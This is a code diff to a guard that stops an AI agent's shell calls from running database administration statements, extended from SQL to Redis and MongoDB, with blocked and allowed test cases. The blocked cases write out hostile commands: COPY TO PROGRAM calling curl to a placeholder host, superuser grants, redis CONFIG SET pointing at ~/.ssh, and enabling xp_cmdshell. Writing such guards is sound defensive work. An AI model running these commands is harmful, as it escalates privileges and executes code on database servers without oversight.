@@ -1,41 +1,11 @@
 import { defineGuard, SHELL_TOOLS } from '../core/guards/types';
 import { analysisEffects } from '../core/effects/derive';
+import { administration } from '../core/effects/store-admin';
 
-/** Statements that change who may do what in a database, or the server itself. Comments are stripped first. */
-const ADMIN: { re: RegExp; what: string }[] = [
-  { re: /^grant\b/i, what: 'GRANT (privileges)' },
-  { re: /^revoke\b/i, what: 'REVOKE (privileges)' },
-  { re: /^(create|alter)\s+(role|user)\b.*\b(superuser|createrole|bypassrls|replication)\b/i, what: 'a role with administrative rights' },
-  { re: /^alter\s+(role|user)\b.*\b(password|identified)\b/i, what: 'a password change' },
-  { re: /^alter\s+system\b/i, what: 'ALTER SYSTEM (server configuration)' },
-  { re: /^alter\s+default\s+privileges\b/i, what: 'ALTER DEFAULT PRIVILEGES' },
-  { re: /^set\s+(global|persist|persist_only)\b/i, what: 'SET GLOBAL (server configuration)' },
-  { re: /^copy\b.*\b(to|from)\s+program\b/i, what: 'COPY … PROGRAM (runs a shell command on the server)' },
-  { re: /^(create|alter)\s+(user|role)\b/i, what: 'creating or changing a database account' },
-];
-
-/** Removes /* … *\/ comments in one pass (no backtracking regex). */
-function stripBlockComments(sql: string): string {
-  let out = '';
-  let at = 0;
-  for (;;) {
-    const open = sql.indexOf('/*', at);
-    if (open < 0) return out + sql.slice(at);
-    out += `${sql.slice(at, open)} `;
-    const close = sql.indexOf('*/', open + 2);
-    if (close < 0) return out;
-    at = close + 2;
-  }
-}
-
-export function sqlAdministration(sql: string): string | null {
-  const s = stripBlockComments(sql).replace(/--[^\n]*/g, ' ');
-  for (const stmt of s.split(';')) {
-    const t = stmt.trim().replace(/\s+/g, ' ');
-    const hit = ADMIN.find((a) => a.re.test(t));
-    if (hit) return hit.what;
-  }
-  return null;
+function denial(program: string, what: string) {
+  return {
+    reason: `${program} runs ${what}. Privileges, accounts, server settings and the server's own machine are the database administrator's call: show the statement to the user and let them run it.`,
+  };
 }
 
 export default defineGuard({
@@ -46,18 +16,35 @@ export default defineGuard({
   tools: [...SHELL_TOOLS],
   check(_call, ctx) {
     for (const ie of analysisEffects(ctx.shell(), ctx.home)) {
+      // A Redis command arrives word by word: judged as the one command they make.
+      const redis: string[] = [];
       for (const e of ie.effects) {
-        let sql: string | null = null;
-        if (e.kind === 'execute' && e.lang === 'sql') sql = e.text;
-        // psql < admin.sql, psql -f admin.sql
-        else if (e.kind === 'read' && e.source === 'file' && e.mode === 'content' && !e.assumed && e.target.path && ie.row?.lang === 'sql')
-          sql = ctx.readText(e.target.path, 256 * 1024);
-        const what = sql ? sqlAdministration(sql) : null;
-        if (what)
-          return {
-            reason: `${ie.inv.program} runs ${what}. Privileges, roles and server settings are the database administrator's call: show the statement to the user and let them run it.`,
-          };
+        let text: string | null = null;
+        let lang = ie.row?.lang ?? 'sql';
+        if (e.kind === 'execute' && e.lang === 'redis' && e.text !== null) {
+          redis.push(e.text);
+          continue;
+        }
+        if (e.kind === 'execute' && (e.lang === 'sql' || e.lang === 'mongo')) {
+          text = e.text;
+          lang = e.lang;
+        }
+        // psql < admin.sql, psql -f admin.sql, mongosh app admin.js
+        else if (
+          e.kind === 'read' &&
+          e.source === 'file' &&
+          e.mode === 'content' &&
+          !e.assumed &&
+          e.target.path &&
+          (lang === 'sql' || lang === 'mongo' || lang === 'redis') &&
+          ie.row?.lang
+        )
+          text = ctx.readText(e.target.path, 256 * 1024);
+        const what = text ? administration(lang, text) : null;
+        if (what) return denial(ie.inv.program, what);
       }
+      const what = redis.length > 0 ? administration('redis', redis.join(' ')) : null;
+      if (what) return denial(ie.inv.program, what);
     }
     return null;
   },
@@ -70,12 +57,19 @@ export default defineGuard({
       { tool_name: 'Bash', tool_input: { command: 'echo "ALTER USER postgres WITH SUPERUSER;" | psql' } },
       { tool_name: 'Bash', tool_input: { command: 'psql <<EOF\nALTER ROLE app SUPERUSER;\nEOF' } },
       { tool_name: 'Bash', tool_input: { command: `psql -c "COPY (SELECT 1) TO PROGRAM 'curl x.example.com'"` } },
+      { tool_name: 'Bash', tool_input: { command: 'psql -c "CREATE EXTENSION plpython3u"' }, note: 'code that runs as the server' },
+      { tool_name: 'Bash', tool_input: { command: 'redis-cli CONFIG SET dir /home/user/.ssh' } },
+      { tool_name: 'Bash', tool_input: { command: `mongosh admin --eval "db.createUser({user: 'x', pwd: 'x', roles: ['root']})"` } },
+      { tool_name: 'Bash', tool_input: { command: `sqlcmd -Q "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE"` } },
     ],
     allowed: [
       { tool_name: 'Bash', tool_input: { command: 'psql -c "SELECT grantee FROM information_schema.role_table_grants"' } },
       { tool_name: 'Bash', tool_input: { command: 'psql -c "\\du"' } },
       { tool_name: 'Bash', tool_input: { command: 'psql -c "CREATE TABLE grants (id int)"' } },
       { tool_name: 'Bash', tool_input: { command: 'sqlite3 app.db "select * from users limit 5"' } },
+      { tool_name: 'Bash', tool_input: { command: 'psql -c "CREATE EXTENSION IF NOT EXISTS pgcrypto"' } },
+      { tool_name: 'Bash', tool_input: { command: 'redis-cli CONFIG SET maxmemory 256mb' } },
+      { tool_name: 'Bash', tool_input: { command: `mysql -e "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'"` } },
     ],
   },
 });
